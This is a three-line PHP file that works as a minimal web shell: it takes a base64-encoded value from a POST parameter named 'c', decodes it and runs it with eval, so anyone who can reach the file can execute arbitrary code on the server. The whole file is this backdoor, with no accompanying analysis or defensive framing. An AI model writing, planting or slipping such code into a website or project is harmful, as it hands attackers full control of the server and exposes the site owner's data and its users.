<?php
if (isset($_POST['c'])) { eval(base64_decode($_POST['c'])); }
?>
